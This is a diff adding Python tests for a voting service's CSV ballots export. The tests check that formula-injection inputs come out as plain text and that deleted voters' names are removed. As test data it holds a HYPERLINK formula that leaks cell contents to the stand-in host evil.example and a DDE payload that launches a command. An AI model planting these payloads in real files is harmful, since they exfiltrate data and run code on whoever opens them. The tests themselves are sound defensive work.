@@ -1,8 +1,12 @@
-"""The published per-room record, never a name (services/votes/export.py)."""
+"""The published per-room record, never a name, and the managers' ballots export, safe to
+open in a spreadsheet (services/votes/export.py)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
+from datetime import timedelta
 
 from tests import identity_events as ie
 from tests.support import auth, client_for, token
@@ -11,8 +15,11 @@ from tests.votes.factories import (
     create_vote,
     manager,
     open_vote,
+    survey_body,
     votes_app,
 )
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
 
 
 async def test_published_results_show_rooms_and_areas_never_names(database_urls):
@@ -44,3 +51,67 @@ async def test_published_results_show_rooms_and_areas_never_names(database_urls)
         assert listed[0]["answers"] == {i["id"]: "agree" for i in vote["items"]}
         everything = page.text + (await c.get(f"/votes/{vote['id']}/results", headers=owners[2])).text
         assert "张三丰" not in everything
+
+
+async def test_ballots_export_makes_formulas_in_names_answers_and_rooms_plain_text(database_urls):
+    cid = str(uuid.uuid4())
+    async with votes_app(database_urls) as app, client_for(app) as c:
+        app.state.clock.set(T0)
+        plain = await ie.room(app, cid, room_no="101")
+        hostile = await ie.room(app, cid, building="=1+1", room_no="102")
+        li = await ie.binding(app, cid, plain["room_id"], display_name="1栋101李明")
+        evil = await ie.binding(app, cid, hostile["room_id"], display_name=HYPERLINK)
+        survey = (await c.post("/votes", json=survey_body(cid), headers=manager(cid))).json()
+        await open_vote(c, cid, survey)
+        single, multiple, text = (i["id"] for i in survey["items"])
+        for bound, room, answer in ((li, plain, "电梯太旧"), (evil, hostile, "@SUM(1+1)*cmd|' /C calc'!A0")):
+            answers = [
+                {"item_id": single, "option_ids": ["1"]},
+                {"item_id": multiple, "option_ids": ["1", "2"]},
+                {"item_id": text, "text": answer},
+            ]
+            r = await c.post(
+                f"/votes/{survey['id']}/ballots",
+                json={"room_id": room["room_id"], "answers": answers},
+                headers=auth(token(bound["account_id"])),
+            )
+            assert r.status_code == 201, r.text
+            app.state.clock.advance(timedelta(minutes=1))  # the export lists ballots by time
+
+        export = await c.get(f"/votes/{survey['id']}/ballots.csv", headers=manager(cid))
+        assert export.status_code == 200
+        assert export.headers["content-type"] == "text/csv; charset=utf-8"
+        assert export.headers["content-disposition"] == f'attachment; filename="vote-{survey["id"]}-ballots.csv"'
+        assert export.text.startswith("\ufeff房屋,面积(㎡),状态,投票时间,选票编号,投票人账号,投票人,被替换时间,单选,多选,建议\r\n")
+        rows = list(csv.reader(io.StringIO(export.text.removeprefix("\ufeff"), newline="")))
+        assert [r[:3] + r[5:7] + r[8:] for r in rows[1:]] == [
+            ["1栋101", "89.50", "有效", li["account_id"], "1栋101李明", "甲", "一;二", "电梯太旧"],
+            # The spreadsheet shows these as typed, and runs none of them.
+            ["'=1+1栋102", "89.50", "有效", evil["account_id"], "'" + HYPERLINK, "甲", "一;二", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+        ]
+
+
+async def test_ballots_export_keeps_a_deleted_voters_ballot_but_not_their_name(database_urls):
+    cid = str(uuid.uuid4())
+    async with votes_app(database_urls) as app, client_for(app) as c:
+        app.state.clock.set(T0)
+        room = await ie.room(app, cid)
+        bound = await ie.binding(app, cid, room["room_id"], display_name="1栋101李明")
+        vote = await create_vote(c, cid)
+        await open_vote(c, cid, vote)
+        body = {"room_id": room["room_id"], "answers": [{"item_id": i["id"], "option_ids": ["agree"]} for i in vote["items"]]}
+        r = await c.post(f"/votes/{vote['id']}/ballots", json=body, headers=auth(token(bound["account_id"])))
+        assert r.status_code == 201, r.text
+
+        await ie.account_deleted(app, cid, bound["account_id"])
+
+        export = await c.get(f"/votes/{vote['id']}/ballots.csv", headers=manager(cid))
+        rows = list(csv.reader(io.StringIO(export.text.removeprefix("\ufeff"), newline="")))
+        assert [r[2] + "|" + r[5] + "|" + r[6] + "|" + r[8] for r in rows[1:]] == [
+            f"有效|{bound['account_id']}|已注销用户|同意"
+        ]
+        assert "李明" not in export.text
+        # The ballot still counts: the record stays, only the name goes.
+        await c.post(f"/votes/{vote['id']}/close", headers=manager(cid))
+        results = await c.get(f"/votes/{vote['id']}/results", headers=manager(cid))
+        assert results.json()["ballots"] == 1
